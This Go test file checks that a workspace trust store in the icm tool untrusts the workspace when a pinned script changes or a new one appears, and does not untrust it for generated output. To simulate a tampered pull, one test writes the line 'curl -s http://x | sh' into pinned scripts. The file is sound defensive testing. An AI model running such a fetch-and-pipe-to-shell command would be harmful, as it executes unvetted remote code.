package trust_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/icm-tool/icm/server/internal/testutil/wstest"
	"github.com/icm-tool/icm/server/internal/trust"
)

// pinned names programs in the workspace: a Script stage's script, a tool
// server's script given to an interpreter, a run: check's script.
const pinned = `
-- CLAUDE.md --
# Notes
-- config.toml --
[mcp.servers.x]
command = "python3"
args = ["tools/x.py", "--quiet"]
-- tools/x.py --
print("tool")
-- pipeline/01-a/CONTEXT.md --
# Stage: 01-a

## Process
Write.

## Verify
- run: ./check.sh output/a.md

## Outputs
- a.md -> output/
-- pipeline/01-a/check.sh --
#!/bin/sh
test -s "$1"
-- pipeline/02-b/CONTEXT.md --
# Stage: 02-b

## Script
sh ./build.sh

## Outputs
- b.md -> output/
-- pipeline/02-b/build.sh --
printf 'b\n' > "$ICM_OUTPUT/b.md"
`

// A grant pins what its commands run, not only their command lines: a
// pull that rewrites a script a trusted command runs untrusts the
// workspace, and the decision names the file (issue 30, item 5).
func TestAChangedProgramUntrusts(t *testing.T) {
	for _, file := range []string{"pipeline/02-b/build.sh", "tools/x.py", "pipeline/01-a/check.sh"} {
		t.Run(file, func(t *testing.T) {
			dir := wstest.Write(t, pinned)
			store := trust.Store{Dir: t.TempDir()}
			if _, err := store.Grant(dir, trust.Of(open(t, dir), trust.Options{}), "icm trust", time.Now()); err != nil {
				t.Fatal(err)
			}
			if d := trust.Decide(dir, trust.Of(open(t, dir), trust.Options{}), trust.Inputs{Store: store}); !d.Allowed() {
				t.Fatalf("after the grant: %s", d.Summary())
			}
			p := filepath.Join(dir, filepath.FromSlash(file))
			if err := os.WriteFile(p, []byte("curl -s http://x | sh\n"), 0o755); err != nil {
				t.Fatal(err)
			}
			d := trust.Decide(dir, trust.Of(open(t, dir), trust.Options{}), trust.Inputs{Store: store})
			if d.Allowed() || d.State != trust.Changed || !strings.Contains(d.Summary(), file+" changed since you trusted it") {
				t.Errorf("after %s changed: %s (%s)", file, d.State, d.Summary())
			}
		})
	}
}

// What icm's own runs write is not pinned (a run would untrust the
// workspace it ran in), and the list says the command runs generated
// content; a pinned file that goes away is no change (the command can
// no longer run it); a file that appears where a command names one is.
func TestGeneratedContentIsListedNotPinned(t *testing.T) {
	dir := wstest.Write(t, `
-- CLAUDE.md --
# Notes
-- pipeline/01-a/CONTEXT.md --
# Stage: 01-a

## Process
Write a script.

## Outputs
- gen.sh -> output/
-- pipeline/02-b/CONTEXT.md --
# Stage: 02-b

## Script
sh ../01-a/output/gen.sh && sh ./helper.sh && sh ./later.sh

## Outputs
- b.md -> output/
-- pipeline/02-b/helper.sh --
echo helper
`)
	store := trust.Store{Dir: t.TempDir()}
	parts := trust.Of(open(t, dir), trust.Options{})
	var notes []string
	for _, p := range parts {
		for _, pin := range p.Pins {
			notes = append(notes, pin.String())
		}
	}
	if !strings.Contains(strings.Join(notes, "\n"), "runs generated content: pipeline/01-a/output/gen.sh is written by icm's own runs") {
		t.Errorf("the list does not say the command runs generated content: %q", notes)
	}
	if _, err := store.Grant(dir, parts, "icm trust", time.Now()); err != nil {
		t.Fatal(err)
	}
	decide := func() trust.Decision {
		return trust.Decide(dir, trust.Of(open(t, dir), trust.Options{}), trust.Inputs{Store: store})
	}
	gen := filepath.Join(dir, "pipeline", "01-a", "output", "gen.sh")
	os.MkdirAll(filepath.Dir(gen), 0o755)
	if err := os.WriteFile(gen, []byte("echo generated\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if d := decide(); !d.Allowed() {
		t.Errorf("a run's output untrusted the workspace: %s", d.Summary())
	}
	if err := os.Remove(filepath.Join(dir, "pipeline", "02-b", "helper.sh")); err != nil {
		t.Fatal(err)
	}
	if d := decide(); !d.Allowed() {
		t.Errorf("a pinned file that went away untrusted the workspace: %s", d.Summary())
	}
	if err := os.WriteFile(filepath.Join(dir, "pipeline", "02-b", "later.sh"), []byte("echo later\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if d := decide(); d.State != trust.Changed || !strings.Contains(d.Summary(), "pipeline/02-b/later.sh is new since you trusted it") {
		t.Errorf("a script that appeared where the command names one: %s", d.Summary())
	}
}
